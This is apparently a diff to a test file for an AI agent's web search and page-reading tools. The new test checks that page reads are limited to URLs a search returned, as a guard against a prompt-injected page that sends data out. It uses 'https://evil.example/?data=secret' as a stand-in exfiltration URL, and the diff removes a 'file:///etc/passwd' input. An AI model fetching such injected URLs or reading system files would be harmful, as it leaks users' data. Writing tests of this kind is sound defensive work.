@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import type { ToolSet } from './ports.js';
 import {
   createWebSearchTools,
+  READ_PAGE_REFUSED,
   READ_PAGE_TOOL,
   WEB_SEARCH_TOOL,
   type WebSearch,
@@ -35,14 +36,13 @@ describe('web search tools', () => {
       content: '[1] A\nhttps://a.example/\nAbout A\n\n[2] B\nhttps://b.example/\nAbout B',
       isError: false,
     });
-    // The same pages found again keep their numbers; a page read that no search found is the next.
+    // The same pages found again keep their numbers; a page read keeps its result's number.
     await tools.set.call(WEB_SEARCH_TOOL, { query: 'y' }, signal);
-    const page = await tools.set.call(READ_PAGE_TOOL, { url: 'https://c.example/' }, signal);
-    expect(page.content).toBe('[3] Page at https://c.example/\nhttps://c.example/\n\nThe page text.');
+    const page = await tools.set.call(READ_PAGE_TOOL, { url: 'https://b.example/' }, signal);
+    expect(page.content).toBe('[2] Page at https://b.example/\nhttps://b.example/\n\nThe page text.');
     expect(tools.sources()).toEqual([
       { title: 'A', url: 'https://a.example/' },
       { title: 'B', url: 'https://b.example/' },
-      { title: 'Page at https://c.example/', url: 'https://c.example/' },
     ]);
   });
 
@@ -64,10 +64,27 @@ describe('web search tools', () => {
     const web = fakeWeb([]);
     const tools = createWebSearchTools(web);
     expect((await tools.set.call(WEB_SEARCH_TOOL, { query: ' ' }, signal)).isError).toBe(true);
-    const file = await tools.set.call(READ_PAGE_TOOL, { url: 'file:///etc/passwd' }, signal);
+    const file = await tools.set.call(READ_PAGE_TOOL, { url: ' ' }, signal);
     expect(file).toEqual({ content: 'Give the http(s) URL of a page.', isError: true });
     expect(web.read).toEqual([]);
     expect(tools.sources()).toEqual([]);
+  });
+
+  it('reads only the pages this reply’s searches returned (or the paused reply’s sources), refusing any other URL', async () => {
+    const web = fakeWeb([{ title: 'A', url: 'https://a.example/' }]);
+    const tools = createWebSearchTools(web, [{ title: 'Earlier', url: 'https://earlier.example/' }]);
+    // Before any search, or a URL no search returned (a prompt-injected page's exfiltration URL).
+    const refused = await tools.set.call(READ_PAGE_TOOL, { url: 'https://a.example/' }, signal);
+    expect(refused).toEqual({ content: READ_PAGE_REFUSED, isError: true });
+    await tools.set.call(WEB_SEARCH_TOOL, { query: 'x' }, signal);
+    const other = await tools.set.call(READ_PAGE_TOOL, { url: 'https://evil.example/?data=secret' }, signal);
+    expect(other).toEqual({ content: READ_PAGE_REFUSED, isError: true });
+    expect(web.read).toEqual([]);
+    expect((await tools.set.call(READ_PAGE_TOOL, { url: 'https://a.example/' }, signal)).isError).toBe(false);
+    expect((await tools.set.call(READ_PAGE_TOOL, { url: 'https://earlier.example/' }, signal)).isError).toBe(
+      false,
+    );
+    expect(web.read).toEqual(['https://a.example/', 'https://earlier.example/']);
   });
 
   it("sits beside a server's tools under its own names, never asking for approval", async () => {
